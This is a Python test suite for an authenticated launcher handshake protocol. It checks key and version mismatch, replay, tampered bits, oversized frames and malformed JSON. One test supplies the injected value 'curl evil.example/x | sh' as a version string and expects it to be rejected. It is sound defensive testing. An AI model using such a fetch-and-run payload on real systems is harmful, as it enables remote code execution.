"""The handshake and the frames between two launchers, without a socket."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hccl_tools.launch.model.rank_messages import Join
from hccl_tools.launch.protocol import messages, session
from hccl_tools.launch.protocol.messages import Heard, Kill, Ready, Release, Start, Waiting
from hccl_tools.launch.protocol.session import Session
from hccl_tools.version import __version__

if TYPE_CHECKING:
    from hccl_tools.launch.protocol.messages import Message

KEY, OTHER_KEY, NO_KEY = b"k" * 32, b"o" * 32, b""


def pair(key: bytes | None = KEY, other: bytes | None = KEY) -> tuple[Session, Session]:
    """Return a listener's session and that of a connecting side."""
    return Session(key, listens=True), Session(other, listens=False)


def taken(side: Session) -> bytes:
    """Return the bytes that a side wants to send, as if they had been sent."""
    data = bytes(side.outgoing)
    side.outgoing.clear()
    return data


def converse(one: Session, other: Session) -> list[Message]:
    """Exchange bytes until both sides are silent; return the messages."""
    found: list[Message] = []
    while one.outgoing or other.outgoing:
        found += other.receive(taken(one))
        found += one.receive(taken(other))
    return found


def proved_pair(key: bytes | None = KEY, *, largest: int = messages.LARGEST) -> tuple[Session, Session]:
    """Return the sessions of the controller and of an agent that has joined and has started its ranks."""
    here, there = Session(key, listens=True, largest=largest), Session(key, listens=False)
    converse(here, there)
    assert here.is_proved
    assert there.is_proved
    for message in (Join(1, 2, ("", 0)), Ready()):
        there.send(message)
    for answer in (Waiting(()), Start()):
        here.send(answer)
    assert len(converse(here, there)) == 4
    return here, there


@pytest.mark.parametrize("key", [KEY, NO_KEY, None])
def test_messages_pass_in_both_directions_after_the_handshake(key: bytes | None) -> None:
    here, there = proved_pair(key)
    here.send(Release(3))
    there.send(Heard(3))

    assert converse(here, there) == [Release(3), Heard(3)]
    assert here.problem is there.problem is None


@pytest.mark.parametrize(
    ("key", "other", "here", "there"),
    [
        (KEY, OTHER_KEY, "key", "key"),
        (KEY, NO_KEY, "keyless there", "keyless here"),
        (NO_KEY, KEY, "keyless here", "keyless there"),
    ],
)
def test_a_missing_or_different_key_ends_both_sides_with_the_reason(
    key: bytes, other: bytes, here: str, there: str
) -> None:
    listener, connecting = pair(key, other)
    connecting.send(Kill())

    assert converse(listener, connecting) == []
    assert not listener.is_proved
    assert not connecting.is_proved
    assert (listener.problem, connecting.problem) == (
        session.Problem(here),
        session.Problem(there, connecting.problem.version if connecting.problem else ""),
    )


def test_a_different_version_ends_both_sides_with_the_version(monkeypatch: pytest.MonkeyPatch) -> None:
    here, there = pair()
    challenge = taken(here)
    monkeypatch.setattr(session, "__version__", "0.0.1")
    there.receive(challenge)
    answer = taken(there)
    monkeypatch.undo()
    here.receive(answer)
    assert not there.is_proved
    monkeypatch.setattr(session, "__version__", "0.0.1")
    there.receive(taken(here))

    assert here.problem == session.Problem("version", "0.0.1")
    assert there.problem == session.Problem("version", __version__)
    assert there.is_proved


def test_a_version_is_believed_only_from_a_side_that_has_the_key(monkeypatch: pytest.MonkeyPatch) -> None:
    here, there = pair(KEY, OTHER_KEY)
    challenge = taken(here)
    monkeypatch.setattr(session, "__version__", "0.0.1")
    there.receive(challenge)
    here.receive(taken(there))

    assert here.problem == session.Problem("key")


def test_another_version_of_a_listener_without_the_key_is_not_believed() -> None:
    here, there = pair(OTHER_KEY, KEY)
    challenge = json.loads(taken(here)[4:])
    there.receive(framed({**challenge, "version": "9.9.9"}))
    assert there.outgoing  # It answers, and waits for the proof.
    there.receive(framed({"proof": "00" * 32}))
    assert (there.problem, there.is_proved) == (session.Problem("proof"), False)


@pytest.mark.parametrize(
    "version", ["0.2; run curl evil.example/x | sh", "0.2\n", "0.2_", "\u0662", "1" * 33, "0.2'"]
)
def test_a_stranger_has_no_text_in_place_of_a_version(version: str) -> None:
    here, there = pair(KEY, NO_KEY)
    challenge = json.loads(taken(here)[4:])
    there.receive(framed({**challenge, "version": version}))

    assert there.problem == session.Problem("protocol")


@pytest.mark.parametrize("nonce", ["", "00" * 31, "00" * 33, "0" * 63, "zz" * 32])
def test_a_nonce_has_32_bytes(nonce: str) -> None:
    here, there = pair()
    challenge = taken(here)
    there.receive(challenge)
    answer = json.loads(taken(there)[4:])
    answer["about"]["nonce"] = nonce
    here.receive(framed(answer))
    other = Session(KEY, listens=False)
    other.receive(framed({**json.loads(challenge[4:]), "nonce": nonce}))

    assert here.problem == other.problem == session.Problem("protocol")


@pytest.mark.parametrize(
    ("changed", "kind"),
    [
        ({"protocol": "hccl-tools job 0"}, "version"),
        ({"keyed": False}, "keyless there"),
        ({"version": "1" * 32}, None),
    ],
)
def test_what_a_listener_says_first_can_end_the_session(changed: dict[str, object], kind: str | None) -> None:
    here, there = pair()
    challenge = {**json.loads(taken(here)[4:]), "version": "0.0.1"}
    there.receive(framed({**challenge, **changed}))

    assert there.problem == (None if kind is None else session.Problem(kind, "0.0.1"))
    assert not there.is_proved


def test_the_handshake_may_arrive_in_single_bytes() -> None:
    here, there = pair()
    for listening, speaking in ((there, here), (here, there), (there, here)):
        for byte in taken(speaking):
            listening.receive(bytes([byte]))

    assert here.is_proved
    assert there.is_proved


def test_nothing_is_sent_after_the_end_of_the_session() -> None:
    here, there = proved_pair()
    here.receive(framed("no message"))
    here.send(Kill())

    assert here.problem == session.Problem("protocol")
    assert not here.outgoing
    assert there.problem is None


@pytest.mark.parametrize(
    ("version", "kind"), [("0.0.1", "version"), (__version__, "elsewhere")], ids=["another", "this"]
)
def test_only_another_version_may_leave_out_where_it_has_connected(
    monkeypatch: pytest.MonkeyPatch, version: str, kind: str
) -> None:
    here, there = pair()
    there._dialled = None  # type: ignore[assignment]
    challenge = taken(here)
    monkeypatch.setattr(session, "__version__", version)
    there.receive(challenge)
    answer = taken(there)
    monkeypatch.undo()
    here.receive(answer)
    monkeypatch.setattr(session, "__version__", version)
    there.receive(taken(here))

    assert here.problem == session.Problem(kind, version if kind == "version" else "")
    assert there.problem == session.Problem(kind, __version__ if kind == "version" else "")


def test_the_order_of_the_fields_is_no_part_of_the_proof() -> None:
    here, there = pair()
    there.receive(reordered(taken(here)))
    here.receive(reordered(taken(there)))
    there.receive(taken(here))

    assert here.is_proved
    assert there.is_proved


def reordered(frame: bytes) -> bytes:
    """Return a frame with the fields of its objects in reverse order."""
    return framed(json.loads(frame[4:], object_pairs_hook=lambda fields: dict(reversed(fields))))


def test_fields_that_this_version_does_not_know_change_nothing() -> None:
    here, there = pair()
    there.receive(taken(here))
    here.receive(extended(taken(there)))
    there.receive(extended(taken(here)))
    assert here.is_proved
    assert there.is_proved

    here, there = pair(KEY, OTHER_KEY)
    there.receive(taken(here))
    here.receive(taken(there))
    there.receive(extended(taken(here)))
    assert there.problem == session.Problem("key")

    here, there = pair()
    there.receive(extended(taken(here)))
    assert there.problem is None  # The proofs then differ: they cover what was sent.
    here.receive(taken(there))
    assert here.problem == session.Problem("key")


def extended(frame: bytes) -> bytes:
    """Return a frame with another field."""
    return framed({**json.loads(frame[4:]), "later": 1})


def framed(content: object) -> bytes:
    data = json.dumps(content).encode()
    return len(data).to_bytes(4, "big") + data


def test_a_proof_sent_back_proves_nothing() -> None:
    """A listener without the key has only the proof of the other side."""
    here, there = pair()
    there.receive(taken(here))
    answer = json.loads(taken(there)[4:])
    there.receive(framed({"proof": answer["proof"]}))

    assert (there.problem, there.is_proved) == (session.Problem("proof"), False)


@pytest.mark.parametrize("field", ["protocol", "version", "nonce"])
def test_a_changed_challenge_makes_the_proofs_differ(field: str) -> None:
    here, there = pair()
    challenge = json.loads(taken(here)[4:])
    changed = {"protocol": session.PROTOCOL + "0", "version": "9.9.9", "nonce": "00" * 32}[field]
    there.receive(framed({**challenge, field: changed}))
    here.receive(taken(there))

    assert not here.is_proved
    assert not there.is_proved


@pytest.mark.parametrize(
    ("dialled", "kind"),
    [
        (("10.0.0.1", 18118), None),
        (("10.0.0.2", 18118), "elsewhere"),
        (("10.0.0.1", 18119), "elsewhere"),
        (("", 0), "elsewhere"),
    ],
)
def test_a_connection_to_another_address_or_port_is_not_proved(
    dialled: tuple[str, int], kind: str | None
) -> None:
    """A relay can pass on bytes, but not make one job's host join another job that has the same key."""
    own = ("10.0.0.1", 18118)
    here = Session(KEY, listens=True, is_here=lambda address, port: (address, port) == own)
    there = Session(KEY, listens=False, dialled=dialled)
    converse(here, there)

    assert (here.problem and here.problem.kind, there.problem and there.problem.kind) == (kind, kind)
    assert here.is_proved is there.is_proved is (kind is None)


def test_the_address_that_was_dialled_cannot_be_changed_on_the_way() -> None:
    here = Session(KEY, listens=True, is_here=lambda address, _port: address == "10.0.0.1")
    there = Session(KEY, listens=False, dialled=("10.0.0.2", 18118))
    there.receive(taken(here))
    answer = json.loads(taken(there)[4:])
    answer["about"]["to"] = ["10.0.0.1", 18118]
    here.receive(framed(answer))

    assert (here.problem, here.is_proved) == (session.Problem("key"), False)


def test_the_token_of_a_connection_for_output_is_part_of_the_proof() -> None:
    here, there = Session(KEY, listens=True), Session(KEY, listens=False, output="a" * 32)
    there.receive(taken(here))
    changed = json.loads(taken(there)[4:])
    other = Session(KEY, listens=False, output="a" * 32)
    whole = Session(KEY, listens=True)
    converse(whole, other)
    changed["about"]["output"] = "b" * 32
    here.receive(framed(changed))

    assert (whole.output, whole.is_proved) == ("a" * 32, True)
    assert (here.output, here.problem) == ("", session.Problem("key"))


@pytest.mark.parametrize(("length", "problem"), [(64, None), (65, session.Problem("protocol"))])
def test_a_token_has_a_limit(length: int, problem: session.Problem | None) -> None:
    here, there = Session(KEY, listens=True), Session(KEY, listens=False, output="a" * length)
    converse(here, there)

    assert here.problem == problem


@pytest.mark.parametrize("to", [[], ["10.0.0.1"], [1, 2], ["10.0.0.1", "18118"], "10.0.0.1"])
def test_an_invalid_address_ends_the_session(to: object) -> None:
    here, there = pair()
    there._dialled = to  # type: ignore[assignment]
    converse(here, there)

    assert here.problem == session.Problem("protocol")


def test_a_recorded_answer_does_not_open_another_session() -> None:
    first, connecting = pair()
    connecting.receive(taken(first))
    answer = taken(connecting)
    first.receive(answer)
    assert first.is_proved
    second = Session(KEY, listens=True)
    second.receive(answer)

    assert not second.is_proved
    assert second.problem == session.Problem("key")


def test_a_repeated_message_ends_the_session() -> None:
    here, there = proved_pair()
    there.send(Kill())
    frame = taken(there)

    assert here.receive(frame) == [Kill()]
    assert here.receive(frame) == []
    assert here.problem == session.Problem("protocol")


def test_messages_in_another_order_end_the_session() -> None:
    here, there = proved_pair()
    there.send(Heard(1))
    first = taken(there)
    there.send(Heard(2))

    assert here.receive(taken(there) + first) == []
    assert here.problem == session.Problem("protocol")


def test_a_message_sent_back_ends_the_session() -> None:
    _here, there = proved_pair()
    there.send(Kill())

    assert there.receive(taken(there)) == []
    assert there.problem == session.Problem("protocol")


@given(at=st.integers(0, 200), bit=st.integers(0, 7))
def test_a_changed_bit_never_gives_a_message(at: int, bit: int) -> None:
    here, there = proved_pair()
    there.send(Ready(1, {"script": "a name of some length, so that most of the frame is text"}))
    frame = bytearray(taken(there))
    frame[at % len(frame)] ^= 1 << bit

    assert here.receive(bytes(frame)) == []


@given(st.lists(st.binary(max_size=300), max_size=10), st.sampled_from([KEY, NO_KEY, None]), st.booleans())
def test_any_bytes_end_the_session_or_wait_for_more(
    parts: list[bytes], key: bytes | None, listens: bool
) -> None:
    side = Session(key, listens=listens)
    for part in parts:
        side.receive(part)

    assert side.problem is None or side.problem.kind == "protocol"
    assert len(side._inbox) <= sum(map(len, parts))


_HANDSHAKES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=80),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["protocol", "version", "nonce", "keyed", "about", "proof", "refused"]), inner
        )
    ),
    max_leaves=12,
)


@given(_HANDSHAKES, st.booleans())
def test_any_object_in_a_handshake_frame_proves_nothing(content: object, listens: bool) -> None:
    side = Session(KEY, listens=listens)
    data = json.dumps(content).encode()
    side.receive(len(data).to_bytes(4, "big") + data)

    assert not side.is_proved


@given(st.binary(max_size=2000))
def test_any_content_with_a_valid_mac_is_a_message_or_ends_the_session(content: bytes) -> None:
    here, _there = proved_pair(None)
    frame = len(content).to_bytes(4, "big") + content
    found = here.receive(frame)

    assert len(found) == (here.problem is None)


@pytest.mark.parametrize("size", [session._LARGEST_HANDSHAKE + 1, 1 << 31])
def test_a_long_frame_before_the_proof_is_refused_by_its_length(size: int) -> None:
    side = Session(KEY, listens=True)
    side.receive(size.to_bytes(4, "big"))

    assert side.problem == session.Problem("protocol")


def test_a_message_as_long_as_allowed_arrives_and_a_longer_one_ends_the_session() -> None:
    here, there = proved_pair()
    there._send_frame(b"x" * (messages.LARGEST + 33))
    assert here.receive(taken(there)[:4]) == []
    assert here.problem == session.Problem("protocol")

    here, there = proved_pair(largest=1000)
    text = "x" * (1000 - len(messages.to_bytes(Ready(1, {"script": ""}))))
    there.send(Ready(1, {"script": text}))
    assert here.receive(taken(there)) == [Ready(1, {"script": text})]
    there.send(Ready(1, {"script": text + "x"}))
    assert here.receive(taken(there)) == []


def test_nothing_is_sent_before_the_proof() -> None:
    here, there = pair()
    there.send(Kill())
    assert not there.outgoing
    converse(here, there)
    assert here.receive(taken(there)) == []


@pytest.mark.slow
@pytest.mark.parametrize("depth", [2, *range(900, 1000)])
@pytest.mark.parametrize("listens", [True, False])
def test_a_deep_value_of_a_stranger_ends_the_session(depth: int, listens: bool) -> None:
    challenge = {"protocol": session.PROTOCOL, "version": __version__, "nonce": "00" * 32, "keyed": True}
    about = {"version": __version__, "nonce": "00" * 32, "keyed": True}
    frame = json.dumps({"about": {**about, "x": 0}, "proof": "00"} if listens else {**challenge, "x": 0})
    content = frame.replace('"x": 0', '"x": ' + "[" * depth + "]" * depth).encode()
    here = Session(KEY, listens=listens)

    here.receive(len(content).to_bytes(4, "big") + content)

    assert here.problem == session.Problem("protocol")
